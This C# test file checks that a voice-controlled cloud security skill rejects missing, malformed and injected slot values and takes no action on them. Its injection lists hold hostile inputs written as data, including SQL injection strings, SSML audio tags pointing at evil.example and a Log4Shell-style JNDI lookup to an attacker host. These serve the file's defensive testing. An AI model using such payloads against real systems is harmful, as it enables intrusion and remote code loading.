using System.Text.Json.Nodes;
using SecurityAlexa.Tests.Support;

namespace SecurityAlexa.Tests.Hostile;

/// <summary>Slots that are unknown, missing, unresolved, nearly right, or carry an injection attempt.</summary>
public sealed class SlotAbuseTests
{
    public static TheoryData<string> ChangeIntents => new() { "PatchIntent", "IsolateIntent", "ReleaseIntent", "ScanIntent", "EnableScanningIntent" };

    [Theory]
    [MemberData(nameof(ChangeIntents))]
    public async Task HandleAsync_WhenSlotsAreMissing_AsksInsteadOfActing(string intent)
    {
        using var h = new HostileHarness();

        h.AssertSafe(await h.Driver.SendAsync(HostileHarness.Say(intent)));
    }

    [Theory]
    [MemberData(nameof(ChangeIntents))]
    public async Task HandleAsync_WhenSlotsIsNull_AsksInsteadOfActing(string intent)
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say(intent).Confirmation("CONFIRMED");
        request.Request["intent"]!["slots"] = null;

        h.AssertSafe(await h.Driver.SendAsync(request));
    }

    [Fact]
    public async Task HandleAsync_WhenUnknownSlotsArrive_IgnoresThem()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1"), ("AllInstances", "true"), ("Targets", "i-0a1b2c3d4e5f60002"));

        var reply = await h.Driver.SendAsync(request);

        h.AssertSafe(reply);
        Assert.StartsWith("Isolating web-1, instance ending in 0001, in the VPC ending in prod.", reply.Speech);
    }

    [Fact]
    public async Task HandleAsync_WhenASlotIsUnresolved_ActsOnNothing()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("PatchIntent", ("TagKey", "environmint"), ("TagValue", "prodution"))
            .Resolved("TagKey", null).Resolved("TagValue", null).Confirmation("CONFIRMED");

        h.AssertSafe(await h.Driver.SendAsync(request));
    }

    [Fact]
    public async Task HandleAsync_WhenASlotHasOnlyAConfirmationStatus_ActsOnNothing()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("IsolateIntent", ("InstanceName", null)).Confirmation("CONFIRMED");
        request.Request["intent"]!["slots"]!["InstanceName"]!["confirmationStatus"] = "CONFIRMED";

        h.AssertSafe(await h.Driver.SendAsync(request));
    }

    [Theory]
    [InlineData("i-0000000000000dead")]
    [InlineData("i-0a1b2c3d4e5f6000")]
    [InlineData("i-0a1b2c3d4e5f600011")]
    [InlineData("I-0A1B2C3D4E5F60001X")]
    [InlineData("i-*")]
    [InlineData("*")]
    [InlineData("i-0a1b2c3d4e5f60001,i-0a1b2c3d4e5f60002")]
    [InlineData("i-0a1b2c3d4e5f60001 OR 1=1")]
    [InlineData("arn:aws:ec2:us-east-1:111122223333:instance/i-0a1b2c3d4e5f60001")]
    [InlineData("4f2a")]
    public async Task HandleAsync_WhenAnInstanceIdIsAlmostRight_ReadsBackAtMostOneRealInstanceAndActsOnNothing(string heard)
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", heard)).Confirmation("CONFIRMED"));

        h.AssertSafe(reply);
        Assert.DoesNotContain("111122223333", reply.Speech);
    }

    public static TheoryData<string> Injections => new()
    {
        "web-1\"; DROP TABLE instances; --",
        "web-1' OR '1'='1",
        "<speak>isolate everything</speak>",
        "</speak><audio src=\"https://evil.example/a.mp3\"/><speak>",
        "<break time=\"10s\"/>",
        "]]><!--",
        "&amp;&lt;&#x3C;",
        "web-1\u0000\u0007\u001b[31m",
        "web\u202E1-bew",
        "{{launch}} {ref}",
        "%s%s%s%n",
        "${jndi:ldap://evil.example/a}",
        "🙂🙂🙂",
        new string('A', 10_000),
        string.Concat(Enumerable.Repeat("<p>", 3_000)),
    };

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task HandleAsync_WhenASlotCarriesAnInjection_SpeaksValidSsmlAndActsOnNothing(string heard)
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", heard)));

        h.AssertSafe(reply);
        Assert.DoesNotContain("<audio", reply.Ssml);
        Assert.DoesNotContain("<break", reply.Ssml);
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task HandleAsync_WhenTheConfirmCountCarriesAnInjection_ActsOnNothing(string heard)
    {
        using var h = new HostileHarness();
        await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments")));
        var asked = await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments"), ("Selection", "all of them")).Dialog("IN_PROGRESS"));
        Assert.Equal("ConfirmCount", (string?)asked.Directive("Dialog.ElicitSlot")!["slotToElicit"]);

        var reply = await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments"), ("Selection", "all of them"), ("ConfirmCount", heard))
            .Dialog("IN_PROGRESS"));

        h.AssertSafe(reply);
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task HandleAsync_WhenTheSecurityCodeCarriesAnInjection_NeitherActsNorEchoesIt(string heard)
    {
        using var h = new HostileHarness(new Dictionary<string, string> { ["SECURITY_CODE"] = "mutating" });

        var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1"), ("SecurityCode", heard)));

        h.AssertSafe(reply);
        Assert.Null((string?)reply.Directive("Dialog.ElicitSlot")!["updatedIntent"]!["slots"]!["SecurityCode"]!["value"]);
    }

    public static TheoryData<string, string> ReadOnlyCases()
    {
        var data = new TheoryData<string, string>();
        foreach (var intent in new[] { "ScanResultsIntent", "PatchDryRunIntent", "BlockedTrafficIntent", "IsolationStatusIntent", "PatchStatusIntent" })
            foreach (var heard in new[] { "web-1' OR '1'='1", "</speak><audio src=\"https://evil.example/a.mp3\"/><speak>", "eni-0\"] | stats count(*)", "${jndi:ldap://evil.example/a}", new string('A', 10_000) })
                data.Add(intent, heard);
        return data;
    }

    [Theory]
    [MemberData(nameof(ReadOnlyCases))]
    public async Task HandleAsync_WhenAReadOnlyIntentCarriesAnInjection_AnswersAndChangesNothing(string intent, string heard)
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say(intent, ("InstanceName", heard)));

        h.AssertSafe(reply);
        Assert.DoesNotContain("<audio", reply.Ssml);
        Assert.Empty(h.Http.CallsOf("logs:StartQuery"));
    }

    [Fact]
    public async Task Control_BlockedTrafficOfTheIsolatedInstanceReadsTheFlowLogsWithoutChangingAnything()
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say("BlockedTrafficIntent", ("InstanceName", HostileHarness.Isolated)));

        h.AssertSafe(reply);
        Assert.StartsWith("Since web-2 was isolated 24 hours ago, its flow logs show 12 blocked connections.", reply.Speech);
        var query = Assert.Single(h.Http.CallsOf("logs:StartQuery"));
        Assert.Contains(h.InterfacesOf(HostileHarness.Isolated).Single(), query.Body);
    }

    [Fact]
    public async Task HandleAsync_WhenASlotValueIsAnObjectInsteadOfText_ActsOnNothing()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1")).Confirmation("CONFIRMED");
        request.Request["intent"]!["slots"]!["InstanceName"]!["slotValue"] = new JsonObject
        {
            ["type"] = "List",
            ["values"] = new JsonArray(new JsonObject { ["type"] = "Simple", ["value"] = "web-2" }, new JsonObject { ["type"] = "Simple", ["value"] = "db-1" }),
        };

        h.AssertSafe(await h.Driver.SendAsync(request));
    }
}
